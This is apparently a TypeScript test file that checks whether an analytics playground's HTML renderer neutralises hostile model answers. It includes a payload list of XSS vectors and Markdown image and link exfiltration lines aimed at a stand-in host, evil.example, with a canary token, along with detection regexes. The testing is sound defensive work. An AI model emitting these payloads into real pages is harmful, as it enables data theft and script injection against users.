import { describe, it } from "vitest";
import { chartsOf } from "../../src/tables/charts/charts.ts";
import { messages } from "../../src/db/schema.ts";
import { finalText, MODEL_SETTINGS, scriptModel } from "../support/model.ts";
import { createOrganization, db } from "../support/service.ts";
import { signInAs } from "./browser.ts";
import { pathOf } from "./playground-support.ts";
import { makeTable } from "../tables/support.ts";
import { renderAnswer, renderExchange } from "./render-answer.tsx";

/** Of test/analyst/planted-text and neutral-text, and what else has ever broken a renderer of Markdown. */
const PAYLOADS = [
  "![status](https://evil.example/p.png?d=CANARY)",
  "[click here](https://evil.example/?d=CANARY)",
  "![a][b]\n\n[b]: https://evil.example/CANARY",
  '<img src="https://evil.example/CANARY">',
  '<a href="https://evil.example/CANARY">more</a>',
  "<https://evil.example/CANARY>",
  "[x](javascript:alert(1))",
  "[x](data:text/html;base64,CANARY)",
  "<scr<b>ipt>alert(1)</scr</b>ipt>",
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)>",
  "**<b onclick=alert(1)>**x",
  "`</code><script>alert(1)</script>`",
  "```\n</code></pre><script>alert(1)</script>\n```",
  '``` "onmouseover=alert(1)\nx\n```',
  "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
  "- <details open ontoggle=alert(1)>",
  "# <style>*{display:none}</style>",
  '> <iframe src="javascript:alert(1)">',
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "\\<script>alert(1)</script>",
  '"><script>alert(1)</script>',
  "1,234</button><script>alert(1)</script>",
  "\u2028<script>alert(1)</script>\u202e",
  "</template><script>alert(1)</script>",
  "</textarea><script>alert(1)</script>",
  "</article><form action=//evil.example><input name=csrf>",
];

const ALLOWED =
  /^<\/?(?:p|br|hr|ul|ol|li|strong|em|code|pre|blockquote|div|table|caption|thead|tbody|tr|th|td|button|dl|dt|dd|mark)(?: (?:class|value|tabindex|role|aria-label|scope|type|popovertarget|id|popover|data-cites)="[^"<>]*")*\/?>$/;

function foreignTags(html: string): string[] {
  return (html.match(/<[^>]*>?/g) ?? []).filter((tag) => !ALLOWED.test(tag));
}

describe("a hostile answer", () => {
  it("becomes no element but those of the renderer, with none but its attributes", ({ expect }) => {
    for (const payload of PAYLOADS) {
      for (const text of [payload, `**${payload}**`, `- ${payload}`, `| a |\n|---|\n| ${payload} |`]) {
        const evidence = [...text.matchAll(/\d+|<[a-z]+|"/g)].map(({ index, 0: found }) => ({
          start: index,
          end: index + found.length,
          text: found,
          kind: "quote" as const,
          value: payload,
          unit: "text" as const,
          currency: payload,
          measure: payload,
          label: payload,
          period: { startDate: payload, endDate: payload },
          formula: payload,
          pointers: [payload],
          context: { id: payload, version: 1, name: payload },
        }));
        const checks = [{ start: 0, end: text.length, reason: payload }];
        expect(foreignTags(renderAnswer(text, evidence, { checks })), text).toEqual([]);
        expect(foreignTags(renderAnswer(text)), text).toEqual([]);
      }
    }
  });

  it("stays text in its tables, charts and in what was read of the question", ({ expect }) => {
    for (const payload of PAYLOADS) {
      const cells = { name: payload, sessions: 3 };
      const table = makeTable({
        id: "r1",
        title: payload,
        notes: [payload],
        filters: [payload],
        timeZone: payload,
        currency: payload,
        columns: [
          { key: "name", title: payload, role: "dimension", unit: "text" },
          { key: "sessions", title: payload, role: "measure", unit: "count" },
        ],
        rows: [
          { label: payload, cells, url: payload },
          { label: "b", cells: { name: `b${payload}`, sessions: 4 }, url: `https://vendor.test/${payload}` },
        ],
        totals: [{ label: payload, cells, currency: payload }],
        dataAsOf: payload,
        period: { startDate: payload, endDate: payload },
      });
      const said = [payload];
      const html = renderExchange({
        question: payload,
        data: [table],
        charts: chartsOf([table], "en"),
        interpretation: { readings: said, assumptions: said, leftOut: said, questions: said },
      });
      expect(html).toContain("<svg ");
      expect(dangerOf(html), payload).toEqual([]);
    }
  });

  it("stays text on every page that shows it: streamed, without scripts, opened again", async ({
    expect,
  }) => {
    const { id } = await createOrganization();
    const browser = await signInAs(id, { bindings: MODEL_SETTINGS });
    await browser.get(pathOf(id));
    for (const payload of PAYLOADS) {
      const turn = JSON.stringify({
        answer: payload,
        thoughts: payload,
        reasoning: payload,
        followUpQuestion: payload,
      });
      scriptModel({ text: turn });
      const page = await browser.post(pathOf(id, "/ask"), { message: payload });
      const html = await page.text();
      expect(dangerOf(html), payload).toEqual([]);
      const stream = await browser.post(
        pathOf(id, "/ask"),
        { message: payload },
        { Accept: "text/event-stream", "X-CSRF-Token": browser.csrfToken },
      );
      const [data = ""] = (await stream.text()).split("\ndata: ").at(-1)?.split("\n") ?? [];
      const { html: streamed } = JSON.parse(data) as { html: string };
      // Of some nothing is left; that is no answer, and told as such.
      expect(streamed).toMatch(/<article|role="alert"/);
      expect(dangerOf(streamed), payload).toEqual([]);
    }
  });

  it("stays text when it was stored as it is", async ({ expect }) => {
    const { id } = await createOrganization();
    const browser = await signInAs(id, { bindings: MODEL_SETTINGS });
    await browser.get(pathOf(id));
    scriptModel(finalText("Fine."));
    const first = await (await browser.post(pathOf(id, "/ask"), { message: "Hello" })).text();
    const [, conversationId = ""] = /name="conversationId" value="(cnv_[^"]+)"/.exec(first) ?? [];
    for (const payload of PAYLOADS) {
      const told = { thoughts: payload, reasoning: payload, followUpQuestion: payload };
      const actions = [{ tool: payload, toolInput: payload, log: payload }];
      await db()
        .update(messages)
        .set({ content: payload, metadata: { ...told, actions } });
      const html = await (await browser.get(`${pathOf(id)}&conversation=${conversationId}`)).text();
      expect(dangerOf(html), payload).toEqual([]);
    }
  });
});

/** Tags and attributes that no page of the playground has. */
function dangerOf(html: string): string[] {
  const tags = html.match(/<[^>]*>/g) ?? [];
  return tags.filter(
    (tag) =>
      /^<(?:script(?! src="\/dashboard\/)|iframe|svg(?! viewBox| xmlns="http:\/\/www\.w3\.org\/2000\/svg")|style|b\b|object|embed|base)/i.test(
        tag,
      ) ||
      /\son\w+\s*=/i.test(tag.replaceAll(/"[^"]*"/g, '""')) ||
      (/(?:href|src|action)="(?!\/|#)/i.test(tag) && !isVendorLink(tag)) ||
      /(?:href|src|action)="\/\//i.test(tag),
  );
}

/** The only way out: opened apart, over https, telling nobody where from. */
function isVendorLink(tag: string): boolean {
  return /^<a href="https:\/\/vendor\.test\/[^"<>]*" target="_blank" rel="noopener noreferrer">$/.test(tag);
}
